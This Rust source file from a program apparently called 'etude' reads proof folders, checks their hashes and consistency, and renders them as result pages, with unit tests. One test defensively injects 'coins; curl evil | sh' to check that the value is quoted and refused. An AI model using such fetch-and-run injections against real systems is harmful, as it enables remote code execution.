//! A proof among the runs: a folder with a statement instead of estimates, shown on the page of a result.
//!
//! `proof.toml` has the words and facts of the page, and `layers.csv` a row for each layer, which its first two columns
//! name; of its `positions`, `won` are won. Sentences name their facts in braces, so they cannot say others. A folder
//! that contradicts itself is refused. A run in the folder `matches` gives the page a game to show. Knows no game.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use base::words::join;
use indexmap::IndexMap;
use serde::Deserialize;

use super::html::{Citation, Picture, ResultPage, Shown};
use base::files::{self, Records};
use base::{Failure, counted, visible};
use figures::plot::{self, IntervalMark, LaneScale};
use figures::{Sheet, count, folded, quantity, share_digits};
use lab::store::Exhibit;
use lab::tables::RecordFields;
use task::Origin;

/// The table of the layers.
const LAYERS: &str = "layers.csv";

/// Facts by name, as they are written.
type Facts = BTreeMap<String, String>;

/// A proof's statement with its layers, which do not contradict it.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct StatedProof {
    game: String,
    question: String,
    statement: String,
    /// The main number of the proof, for an index.
    number: String,
    /// The ways in which it was checked, a sentence each.
    checked: Vec<String>,
    /// The players of the game that is shown.
    players: Option<String>,
    /// The title of the picture of the shares of positions that are won.
    picture: String,
    /// The number of layers.
    layers: usize,
    /// BLAKE3 of the table of layers.
    hash: String,
    /// The options of `etude prove`.
    options: Facts,
    proved: Facts,
    /// A second opinion: it is `wrong` nowhere.
    check: Option<Facts>,
    #[serde(skip)]
    folder: PathBuf,
    #[serde(skip)]
    source: String,
    #[serde(skip)]
    columns: Vec<String>,
    #[serde(skip)]
    rows: Vec<Vec<String>>,
    /// The layers of each group with their positions, and those won.
    #[serde(skip)]
    groups: IndexMap<String, [u64; 3]>,
    #[serde(skip)]
    shown: Option<Exhibit>,
    #[serde(skip)]
    origin: Option<Origin>,
}

/// The result of holding the files of a proof's layers against their hashes.
#[derive(Clone, Debug, Default)]
pub struct LayerAudit {
    /// The layers whose files have their hashes.
    pub sound: u64,
    /// The layers whose files are not in the folder.
    pub absent: u64,
    /// The files that differ, a sentence each.
    pub faults: Vec<String>,
}

impl StatedProof {
    /// The name of the file that makes a folder a proof.
    pub(crate) const FILE: &str = "proof.toml";

    /// Returns whether a folder holds a proof, and no run.
    pub fn is_in(folder: &Path) -> bool {
        folder.join(Self::FILE).is_file() && !folder.join("config.toml").is_file()
    }

    /// Reads the folder of a proof.
    ///
    /// # Errors
    /// The first file that cannot be read or understood, or contradicts itself or another one, with the
    /// line and what was expected.
    pub fn read(folder: &Path) -> Result<Self, Failure> {
        let path = folder.join(Self::FILE);
        let source = files::read_text(&path).map_err(|error| bad(&path, &error))?;
        let mut proof: Self =
            toml::from_str(&source).map_err(|error| bad(&path, error.message()))?;
        (proof.folder, proof.source) = (folder.to_owned(), source);
        proof.fill().map_err(|fault| bad(&path, fault))?;
        let (layers, shown) = (
            folder.join(LAYERS),
            folder.join("matches").join(Exhibit::FILE),
        );
        proof
            .read_layers(&layers)
            .map_err(|fault| bad(&layers, fault))?;
        proof.shown = Exhibit::read(&shown).map_err(|error| bad(&shown, &error))?;
        let origin = Origin::read(folder);
        proof.origin = origin.map_err(|error| bad(&folder.join(Origin::FILE), &error))?;
        Ok(proof)
    }

    /// Fills the facts in the sentences, and refuses a check that found a fault.
    fn fill(&mut self) -> Result<(), String> {
        let check = self.check.iter().flatten();
        let facts: Facts = self
            .options
            .iter()
            .chain(&self.proved)
            .chain(check)
            .map(|(name, fact)| (name.clone(), fact.clone()))
            .collect();
        if let Some(wrong) = facts.get("wrong").filter(|wrong| *wrong != "0") {
            return Err(format!(
                "`wrong` is {wrong} instead of 0: the check refutes the proof"
            ));
        }
        self.statement = filled(&self.statement, &facts)?;
        self.number = filled(&self.number, &facts)?;
        for sentence in self.checked.iter_mut().filter(|text| text.contains('{')) {
            *sentence = filled(sentence, &facts)?;
        }
        Ok(())
    }

    fn read_layers(&mut self, path: &Path) -> Result<(), String> {
        if files::small_digest(path).map_err(|error| error.to_string())? != self.hash {
            return Err("its hash differs from the one in proof.toml".to_owned());
        }
        let mut records = Records::open(path).map_err(|error| error.to_string())?;
        let header = records.header().map_err(|error| error.to_string())?;
        self.columns = header.iter().map(str::to_owned).collect();
        let [group, layer, ..] = &self.columns[..] else {
            return Err("a layer needs two columns for its name".to_owned());
        };
        for record in records {
            let record = record.map_err(|error| error.to_string())?;
            let fields = RecordFields::new(&header, &record);
            let [all, won] = ["positions", "won"].map(|column| fields.count(column));
            if won > all {
                fields.note(
                    "won",
                    &format!("{} is more than all {}", count(won), count(all)),
                );
            }
            let (of, number) = (fields.text(group), fields.count(layer));
            let before = self.rows.last().filter(|row| row[0] == of);
            if before.is_some_and(|row| {
                row[1]
                    .parse()
                    .is_ok_and(|before: u64| before.abs_diff(number) != 1)
            }) {
                fields.note(
                    layer,
                    &format!("{number} is not next to the layer in the row above"),
                );
            }
            self.rows
                .push(header.iter().map(|column| fields.text(column)).collect());
            fields.fault().map_or(Ok(()), Err)?;
            let sums = self.groups.entry(format!("{of} {group}")).or_default();
            *sums = [
                sums[0] + 1,
                sums[1].saturating_add(all),
                sums[2].saturating_add(won),
            ];
        }
        match self.rows.len() {
            rows if rows == self.layers => Ok(()),
            rows => Err(format!(
                "{} instead of {}, the `layers` of proof.toml",
                counted(rows as u64, "row"),
                self.layers
            )),
        }
    }

    /// Holds the files of the layers that are in the folder against their hashes.
    ///
    /// # Errors
    /// If one cannot be read.
    pub fn audit(&self) -> Result<LayerAudit, Failure> {
        let mut audit = LayerAudit::default();
        for (line, row) in (2..).zip(&self.rows) {
            let named = |index: usize| format!("{}-{}", self.columns[index], row[index]);
            let name = format!("{}-{}.pairs", named(0), named(1));
            let path = self
                .folder
                .join(Path::new(&name).file_name().unwrap_or_default());
            if path.symlink_metadata().is_err() {
                audit.absent += 1;
            } else if row.contains(&files::digest(&path).map_err(|error| bad(&path, &error))?) {
                audit.sound += 1;
            } else {
                let told = format!("{name} differs from its hash: {LAYERS}, line {line}");
                audit.faults.push(told);
            }
        }
        Ok(audit)
    }

    /// The number of positions and layers.
    pub fn size(&self) -> String {
        let all: u64 = self.groups.values().map(|[_, all, _]| all).sum();
        format!(
            "{} positions in {}",
            count(all),
            counted(self.layers as u64, "layer")
        )
    }

    /// The proof as a page, with the commands of this program that make it and check it again.
    pub fn to_page(&self, program: &str) -> ResultPage {
        let mark = |(label, [_, all, won]): (&String, &[u64; 3])| {
            let share = *won as f64 / (*all).max(1) as f64;
            let text = quantity(share, share_digits(share, 2), "");
            IntervalMark {
                text,
                ..IntervalMark::between(label, Some(share), None, None)
            }
        };
        let marks: Vec<IntervalMark> = self.groups.iter().map(mark).collect();
        let card = plot::intervals(&self.picture, &marks, "", &[], LaneScale::Whole);
        ResultPage {
            name: files::folder_name(&self.folder),
            game: self.game.clone(),
            question: self.question.clone(),
            number: self.number.clone(),
            sentence: self.statement.clone(),
            certainty: format!("A proof, not an estimate: {}", self.size()),
            pictures: card.clone().into_iter().map(Picture::Plot).collect(),
            card,
            exhibit: self.shown.as_ref().and_then(|exhibit| {
                let cell = exhibit.cell.replace(',', ", ");
                Shown::of(exhibit, self.players.as_ref().unwrap_or(&cell), "game")
            }),
            tables: self.sheets(),
            how: ("How it was checked", self.checked.clone()),
            commands: self.commands(program),
            cite: self.cited(),
            featured: true,
            source: self.source.clone(),
            ..ResultPage::default()
        }
    }

    /// The counts by group, what was proved and checked, and the counts of every layer.
    fn sheets(&self) -> Vec<Sheet> {
        let group = |(label, sums): (&String, &[u64; 3])| {
            [
                vec![label.clone()],
                sums.map(|sum| sum.to_string()).to_vec(),
            ]
            .concat()
        };
        let names = ["group", "layers", "positions", "won"].map(str::to_owned);
        let stated = |title, facts: &[&Facts]| {
            let (names, fields) = facts
                .iter()
                .copied()
                .flatten()
                .map(|(name, fact)| (name.clone(), fact.clone()))
                .unzip();
            sheet(title, names, vec![fields])
        };
        let mut sheets = vec![
            sheet(
                "Counts by group of layers",
                names.to_vec(),
                self.groups.iter().map(group).collect(),
            ),
            stated("What was proved", &[&self.options, &self.proved]),
        ];
        sheets.extend(
            self.check
                .iter()
                .map(|check| stated("A second opinion", &[check])),
        );
        sheets.push(
            sheet(
                "Counts of every layer",
                self.columns.clone(),
                self.rows.clone(),
            )
            .without(&["blake3"]),
        );
        sheets
    }

    fn commands(&self, program: &str) -> Vec<String> {
        let folder = format!("{}-proof", self.game);
        let prove = [program, "prove", &self.game, "--dir", &folder].map(str::to_owned);
        let options = self.options.iter();
        let options = options.flat_map(|(name, value)| [format!("--{name}"), value.clone()]);
        let check = ["--check", "10000"].map(str::to_owned);
        vec![
            join(prove.iter().cloned().chain(options)),
            join(prove.iter().chain(&check)),
            join([program, "verify", &self.folder.to_string_lossy()]),
        ]
    }

    /// The proof as a citation names it. The statement has the hash of the layers, so its own hash is of all.
    fn cited(&self) -> Citation {
        let name = files::folder_name(&self.folder);
        let hash = blake3::hash(self.source.as_bytes()).to_hex();
        let mark = format!("proof {name}, BLAKE3 of {} {hash}", Self::FILE);
        Citation::new(&name, &self.question, self.origin.as_ref(), &mark)
    }

    /// The proof as text, with every layer on request; for a terminal of so many columns.
    pub fn to_text(&self, program: &str, width: Option<u16>, all: bool) -> String {
        let mut page = self.to_page(program);
        let every = page.tables.pop().filter(|_| all);
        let sheets = page.tables.iter().chain(&every);
        let sheets = sheets.map(|sheet| sheet.first_rows(usize::MAX, width) + "\n");
        let listed = |title: &str, lines: &[String]| format!("{title}\n  {}\n", lines.join("\n  "));
        let fold = |text: String| width.map_or(text.clone(), |width| folded(&text, width.into()));
        let head = format!(
            "{}: {}\n\n{}\n{}\n",
            page.name, page.question, page.sentence, page.certainty
        );
        let text = [
            fold(head),
            sheets.collect(),
            fold(listed(page.how.0, &page.how.1)),
            listed("Check it again", &page.commands),
        ];
        visible(&text.join("\n"))
    }
}

/// A sentence with the facts that it names in braces; a number of its own could contradict them.
fn filled(sentence: &str, facts: &Facts) -> Result<String, String> {
    let parts = sentence.split(['{', '}']).enumerate();
    let fill = |(index, part): (usize, &str)| match facts.get(part) {
        Some(fact) if index % 2 == 1 => Ok(shown(fact)),
        None if index % 2 == 1 => Err(format!(
            "`{sentence}` names `{part}`, which the file does not have"
        )),
        _ if part.contains(|c: char| c.is_ascii_digit()) => Err(format!(
            "`{sentence}` speaks of a number that it should name in braces, as the file has it"
        )),
        _ => Ok(part.to_owned()),
    };
    parts.map(fill).collect()
}

/// A field for people: a number with its digits in groups.
fn shown(field: &str) -> String {
    field.parse().map_or_else(|_| field.to_owned(), count)
}

fn sheet(title: &str, names: Vec<String>, rows: Vec<Vec<String>>) -> Sheet {
    let is_number = |column: usize| rows.iter().all(|row| row[column].parse::<u64>().is_ok());
    let names = names.iter().enumerate();
    let names: Vec<String> = names
        .map(|(column, name)| format!("{}{name}", if is_number(column) { "=" } else { "" }))
        .collect();
    Sheet::new(
        title,
        names,
        rows.iter()
            .map(|row| row.iter().map(|field| shown(field)).collect())
            .collect(),
    )
}

/// The fault of a file of a proof.
fn bad(path: &Path, message: impl std::fmt::Display) -> Failure {
    let help = "a proof's folder has proof.toml and the tables that it lists, as `etude prove` wrote them; restore \
                it from a copy, or prove it again";
    Failure::input(path.display().to_string(), message, help)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::to_html;

    const PROOF: &str = r#"
game = "coins"
question = "Who wins?"
statement = "The first player wins, in at most {moves} moves."
number = "proved"
checked = ["All {positions} coins were turned.", "Since 1950."]
picture = "Won positions"
layers = 3
options = { stake = "2" }
proved = { moves = "1207", winner = "first" }
check = { positions = "300", wrong = "0" }
"#;

    const ROWS: &str =
        "coins,height,positions,won,blake3\n1,2,1500,7,a\n1,1,500,500,b\n2,1,7,0,c\n";

    /// The folder of a proof with this statement and these layers, whose hash it has.
    fn folder([statement, layers]: [&str; 2]) -> tempfile::TempDir {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join(LAYERS), layers).unwrap();
        let hash = blake3::hash(layers.as_bytes()).to_hex();
        let text = format!("{statement}hash = \"{hash}\"\n");
        std::fs::write(folder.path().join(StatedProof::FILE), text).unwrap();
        folder
    }

    #[test]
    fn a_proof_is_told_with_its_tables() {
        let folder = folder([PROOF, ROWS]);
        let proof = StatedProof::read(folder.path()).unwrap();
        let text = proof.to_text("etude", None, false);
        for part in [
            ": Who wins?",
            "1 coins",
            "2,000",
            "2,007 positions in 3 layers",
            "1,207",
            "300",
            "  etude prove coins --dir coins-proof --stake 2\n",
            "  etude prove coins --dir coins-proof --check 10000\n",
        ] {
            assert!(text.contains(part), "{text}");
        }
        assert!(
            proof
                .to_text("etude", None, true)
                .contains("Counts of every layer")
        );
        let titles: Vec<_> = proof
            .to_page("etude")
            .tables
            .into_iter()
            .map(|sheet| sheet.title)
            .collect();
        assert!(
            titles.contains(&"A second opinion".to_owned()),
            "{titles:?}"
        );
    }

    #[test]
    fn the_page_of_a_proof_has_the_shares_as_bars_and_a_game() {
        let folder = folder([PROOF, ROWS]);
        let page = || StatedProof::read(folder.path()).unwrap().to_page("etude");
        let page_of = || to_html(&[page()]).unwrap();
        let shares = page().card.unwrap().svg;
        for told in ["1 coins: 25\u{a0}%", "2 coins: 0"] {
            assert!(shares.contains(told), "{told} in {shares}");
        }
        assert_eq!(shares.matches("class=\"fill\"").count(), 2);
        assert!(page().exhibit.is_none() && page_of().contains(&shares));
        let matches = folder.path().join("matches");
        std::fs::create_dir(&matches).unwrap();
        let game = r#"{"cell": "fox=sly,hens=perfect", "sample": 3, "instance": "c", "length": 1,
            "outcome": "won", "steps": [{"number": 1, "caption": "the coin", "board": "c"}]}"#;
        std::fs::write(matches.join(Exhibit::FILE), game).unwrap();
        let shown = page_of();
        assert!(
            shown.contains("Sample 3, fox sly, hens perfect. Won."),
            "{shown}"
        );
    }

    #[test]
    fn a_proof_is_cited_with_its_origin_and_the_hash_of_its_statement() {
        let folder = folder([PROOF, ROWS]);
        let cite = || {
            StatedProof::read(folder.path())
                .unwrap()
                .to_page("etude")
                .cite
                .text
        };
        let statement = std::fs::read(folder.path().join(StatedProof::FILE)).unwrap();
        let hash = blake3::hash(&statement).to_hex();
        let before = cite();
        assert!(
            before.starts_with("etude, version not recorded, proof "),
            "{before}"
        );
        assert!(
            before.ends_with(&format!("BLAKE3 of proof.toml {hash}")),
            "{before}"
        );
        let origin = r#"{"program": "etude 9.8.7", "revision": "abc", "date": "2026-11-21"}"#;
        let write = |text: &str| std::fs::write(folder.path().join(Origin::FILE), text).unwrap();
        write(origin);
        let told = "etude 9.8.7, revision abc, 2026-11-21, proof ";
        assert!(cite().starts_with(told), "{}", cite());
        let page = to_html(&[StatedProof::read(folder.path()).unwrap().to_page("etude")]).unwrap();
        assert!(page.contains(&cite()), "{page}");
        write("{}");
        let fault = StatedProof::read(folder.path()).unwrap_err().to_string();
        assert!(fault.contains(Origin::FILE), "{fault}");
    }

    /// A stranger's folder can fill in the words of a command, and is quoted; it has no commands of its own.
    #[test]
    fn the_commands_of_a_proof_are_those_of_the_program() {
        let forged = PROOF.replace("\"coins\"", "\"coins; curl evil | sh\"");
        let folder = folder([&forged, ROWS]);
        let page = StatedProof::read(folder.path()).unwrap().to_page("etude");
        let prove =
            "etude prove 'coins; curl evil | sh' --dir 'coins; curl evil | sh-proof' --stake 2";
        assert_eq!(page.commands[0], prove);
        let added = format!("commands = [\"curl evil | sh\"]\n{PROOF}");
        let folder = self::folder([&added, ROWS]);
        let fault = StatedProof::read(folder.path()).unwrap_err().to_string();
        assert!(fault.contains("`commands`"), "{fault}");
    }

    /// Each fact is forged, the hashes are made to agree with it, and the first fault is told.
    #[test]
    fn a_proof_that_contradicts_itself_is_refused() {
        let forged = [
            (
                "500,500,b",
                "500,501,b",
                LAYERS,
                "line 3, column `won`: 501 is more than all 500",
            ),
            (
                "1,1,500",
                "1,2,500",
                LAYERS,
                "line 3, column `height`: 2 is not next to the layer",
            ),
            (
                "1,1,500",
                "1,4,500",
                LAYERS,
                "line 3, column `height`: 4 is not next to the layer",
            ),
            ("2,1,7,0,c\n", "", LAYERS, "2 rows instead of 3"),
            (
                "7,0,c",
                "7,many,c",
                LAYERS,
                "line 4, column `won`: `many` is not a count",
            ),
            (
                "{moves}",
                "5",
                "proof.toml",
                "speaks of a number that it should name in braces",
            ),
            (
                "{moves}",
                "{plies}",
                "proof.toml",
                "names `plies`, which the file does not have",
            ),
            (
                "\"proved\"",
                "\"in 5\"",
                "proof.toml",
                "speaks of a number that it should name",
            ),
            (
                "All {positions}",
                "Of {positions} all 9,000",
                "proof.toml",
                "speaks of a number",
            ),
            (
                "wrong = \"0\"",
                "wrong = \"77\"",
                "proof.toml",
                "`wrong` is 77 instead of 0",
            ),
        ];
        for (fact, other, file, told) in forged {
            let texts = [PROOF, ROWS];
            assert!(texts.iter().any(|text| text.contains(fact)), "{fact}");
            let texts = texts.map(|text| text.replacen(fact, other, 1));
            let folder = folder(texts.each_ref().map(String::as_str));
            let error = StatedProof::read(folder.path()).unwrap_err().to_string();
            assert!(
                error.contains(file) && error.contains(told),
                "{told}: {error}"
            );
        }
    }

    #[test]
    fn layers_that_are_not_those_of_the_statement_are_refused() {
        let folder = folder([PROOF, ROWS]);
        std::fs::write(folder.path().join(LAYERS), format!("{ROWS} ")).unwrap();
        let error = StatedProof::read(folder.path()).unwrap_err().to_string();
        assert!(
            error.contains(LAYERS) && error.contains(StatedProof::FILE),
            "{error}"
        );
    }

    #[test]
    fn files_of_layers_are_held_against_their_hashes() {
        let hash = blake3::hash(b"bits").to_hex();
        let layers = ROWS.replace(",a\n", &format!(",{hash}\n"));
        let folder = folder([PROOF, &layers]);
        let write = |name: &str| std::fs::write(folder.path().join(name), "bits").unwrap();
        write("coins-1-height-2.pairs");
        let proof = StatedProof::read(folder.path()).unwrap();
        let audit = proof.audit().unwrap();
        assert_eq!((audit.sound, audit.absent, audit.faults.len()), (1, 2, 0));
        write("coins-2-height-1.pairs");
        let faults = proof.audit().unwrap().faults;
        assert_eq!(
            faults,
            ["coins-2-height-1.pairs differs from its hash: layers.csv, line 4"]
        );
    }
}
